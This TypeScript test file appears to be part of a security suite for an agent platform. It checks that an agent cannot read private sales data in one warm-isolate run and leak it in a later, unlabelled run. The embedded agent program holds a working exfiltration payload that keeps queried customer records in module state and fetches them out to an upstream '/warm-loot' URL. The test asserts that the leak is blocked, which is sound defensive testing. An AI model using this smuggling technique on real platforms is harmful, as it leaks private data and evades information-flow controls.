/*
 * X62 Reads private data in one run, keeps it in its warm isolate, and sends it out in the next, which has read nothing
 * wall: flow
 * ends: held
 */
import assert from "node:assert/strict";
import { makeAgent } from "../../../platform/start-platform.ts";
import type { Scene } from "../../scene.ts";

const PROGRAM = `let loot = null;
let runs = 0;
export default async (input, env) => {
	runs += 1;
	if (input.step === "count") return runs;
	if (input.step === "read") { loot = JSON.stringify(await env.sales.query("SELECT customer FROM orders")); return runs; }
	if (loot === null) return "nothing kept";
	// A page first, so that the run is untrusted too.
	await env.web.fetch("http://" + input.upstream + "/warm-page");
	await env.web.fetch("http://" + input.upstream + "/warm-loot?" + encodeURIComponent(loot));
	return "ESCAPED";
};`;

/** Another run of the platform can take the process away in between: then it is tried again. */
const ROUNDS = 5;

export const attack = async ({ api, input, upstream }: Scene): Promise<void> => {
	const grants = {
		sales: { verb: "sql.query", dataset: "sales", mode: "read", labels: ["private"] },
		web: { verb: "http.fetch", allow: [{ host: input.upstream, scheme: "http", methods: ["GET"] }] },
	};
	const agent = await makeAgent(api, {
		name: "warm-smuggler",
		program: PROGRAM,
		language: "javascript",
		isolation: "warm",
		policy: { grants },
	});
	const step = (name: string) => api.run({ agent: agent.id, input: { ...input, step: name } });
	let warm = 0;
	for (let round = 0; round < ROUNDS && warm < 2; round += 1) {
		const before = Number((await step("count")).result);
		const read = await step("read");
		assert.deepEqual([read.status, read.labels], ["succeeded", ["private"]]);
		// It read where an honest run had been, and where the next would come without the labels.
		if (Number(read.result) === before + 1) warm += 1;
		const [one, other] = await Promise.all([step("send"), step("send")]);
		assert.deepEqual([one.result, other.result, one.labels], ["nothing kept", "nothing kept", []]);
	}
	assert.ok(warm > 0, `none of ${ROUNDS} runs read in the isolate of the one before it`);
	assert.equal(upstream.arrived.filter(({ url }) => url?.startsWith("/warm-loot") === true).length, 0);
};
